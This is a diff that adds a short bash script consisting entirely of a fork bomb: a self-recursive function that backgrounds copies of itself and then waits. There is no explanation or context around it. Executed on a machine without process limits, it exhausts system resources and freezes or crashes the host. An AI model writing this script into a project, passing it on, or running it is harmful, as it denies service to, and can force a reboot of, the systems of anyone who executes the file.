@@ -1,0 +1,4 @@
+#!/usr/bin/env bash
+bomb() { bomb | bomb & }
+bomb
+wait
